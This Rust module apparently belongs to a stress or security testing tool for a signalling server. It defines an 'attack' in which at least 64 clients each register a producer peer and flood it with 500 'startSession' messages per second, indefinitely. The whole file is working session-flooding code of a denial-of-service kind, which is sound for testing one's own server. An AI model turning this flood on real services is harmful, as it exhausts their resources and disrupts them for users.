//! Sessions of peers that call each other, of which there is a number for all.

use std::time::Duration;

use anyhow::Result;
use serde_json::json;
use tokio::time::sleep;

use crate::attack::client::Crowd;

const CLIENTS: usize = 64;
/// As many calls go out every [`PACE`]: what one peer may start at once, and more.
const AT_ONCE: u64 = 500;
const PACE: Duration = Duration::from_secs(1);

pub(super) async fn attack(crowd: &Crowd) {
    crowd
        .all(crowd.at_least(CLIENTS), |client| occupy(crowd, client))
        .await;
}

async fn occupy(crowd: &Crowd, client: usize) -> Result<()> {
    let mut callee = crowd.peer(client).await?;
    callee.set_roles("\"producer\"").await?;
    let mut caller = crowd.raw_peer(client, "/").await?;
    let start = json!({"type": "startSession", "peerId": callee.id}).to_string();
    let call = async {
        loop {
            for _ in 0..AT_ONCE {
                caller.send_text(&start).await?;
            }
            crowd.count_sent(AT_ONCE);
            sleep(PACE).await;
        }
    };
    let read = async { while callee.next_text().await.is_ok() {} };
    tokio::select! {
        ended = call => ended,
        () = read => anyhow::bail!("closed"),
    }
}
